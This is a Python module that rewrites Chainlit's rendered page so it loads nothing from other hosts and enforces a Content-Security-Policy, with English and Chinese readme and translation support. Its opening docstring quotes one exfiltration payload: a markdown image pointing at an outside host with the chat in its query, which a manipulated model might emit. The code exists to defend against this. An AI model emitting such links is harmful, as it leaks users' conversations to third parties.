"""The page as Steward serves it: nothing comes from another host, and it speaks English or Chinese.

Chainlit's built page asks Google for fonts and a public mirror for KaTeX's style sheet, which an internal network cannot
reach and a private chat should not call. Neither can be turned off by configuration alone, so the page is rewritten each
time it is rendered; the installed package stays as it is. A Content-Security-Policy then holds the browser to it, also for
an image address in an answer: a model that was talked into `![](https://elsewhere/?q=<the chat>)` cannot send it anywhere.

`prepare_page()` once, after Chainlit is imported and before the first request; `app.py` is the place that both
`server.py` and `chainlit run app.py` go through.
"""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path
from typing import Any, Literal

import chainlit.server as chainlit_server
from chainlit.config import ChainlitConfig

Language = Literal["en-US", "zh-CN"]

# Taken once, at import, so that a second prepare_page() cannot wrap a wrapper.
_render = chainlit_server.get_html_template
_translate = ChainlitConfig.load_translation

DEFERRED = ("chats", "time", "limits-words", "limits-panel", "limits")

_KATEX = re.compile(r'href="https://[^"]*/katex(?:\.min)?\.css"')
_FOREIGN_LINK = re.compile(r"""<link\b[^>]*\bhref=["'](?:https?:)?//[^>]*>\s*""")
_INLINE_SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)


def page_language(tag: str) -> Language:
    """The page's language for a browser's language tag (BCP 47): Chinese for every `zh`, English for all others."""
    return "zh-CN" if tag.lower().split("-")[0] == "zh" else "en-US"


def content_security_policy(html: str) -> str:
    """The policy for a rendered page: its own host only, and of inline scripts only those that the page has (by SHA-256)."""
    digests = (hashlib.sha256(script.encode()).digest() for script in _INLINE_SCRIPT.findall(html))
    hashes = " ".join(f"'sha256-{base64.b64encode(digest).decode()}'" for digest in digests)
    return "; ".join(
        (
            "default-src 'self'",
            # Chainlit compiles custom elements (public/elements/*.jsx) in the browser: that is 'unsafe-eval'.
            f"script-src 'self' 'unsafe-eval' {hashes}".rstrip(),
            "style-src 'self' 'unsafe-inline'",
            "img-src 'self' data: blob:",
            "media-src 'self' data: blob:",
            "font-src 'self' data:",
            "worker-src 'self' blob:",
            # Safari before 15.4 does not count a WebSocket to the same host as 'self'; it falls back to polling.
            "connect-src 'self'",
            "frame-src 'self'",
            "object-src 'none'",
            "base-uri 'self'",
            "form-action 'self'",
        )
    )


def local_page(root_path: str) -> str:
    """Chainlit's page for `root_path` (a reverse proxy's prefix, or empty), with every foreign address removed."""
    public = f"{root_path.rstrip('/')}/public"
    html: str = _render(root_path)
    html = _KATEX.sub(f'href="{public}/katex/katex.min.css"', html)
    html = _FOREIGN_LINK.sub("", html)
    policy = f'<meta http-equiv="Content-Security-Policy" content="{content_security_policy(html)}" />'
    # The first before the style sheets: the page is painted first in the browser's own theme, not white and then dark.
    # The others before Chainlit's script, whose requests and keys they listen to.
    scripts = [f'<script src="{public}/first-paint.js"></script>']
    scripts += [f'<script defer src="{public}/{name}.js"></script>' for name in DEFERRED]
    head = "\n    ".join(['<meta charset="UTF-8" />', policy, *scripts])
    return html.replace('<meta charset="UTF-8" />', head, 1)


def readme(root: str, language: str) -> str | None:
    """The page's readme in `page_language(language)`, read from the folder `root`; None where there is no file."""
    path = Path(root) / ("chainlit_zh-CN.md" if page_language(language) == "zh-CN" else "chainlit.md")
    return path.read_text(encoding="utf-8") if path.is_file() else None


def translation(config: ChainlitConfig, language: str) -> dict[str, Any]:
    """The page's words in `page_language(language)`; Chainlit's own other languages would say them half in English."""
    words: dict[str, Any] = _translate(config, page_language(language))
    return words


def prepare_page() -> None:
    """Make Chainlit render Steward's page, from the next request on. Harmless when called twice.

    Raises AttributeError where this Chainlit has no such function.
    """
    for owner, name, ours in (
        (chainlit_server, "get_html_template", local_page),
        (chainlit_server, "get_markdown_str", readme),
        (ChainlitConfig, "load_translation", translation),
    ):
        getattr(owner, name)  # a Chainlit that renamed it must fail here, not serve its own page unnoticed
        setattr(owner, name, ours)
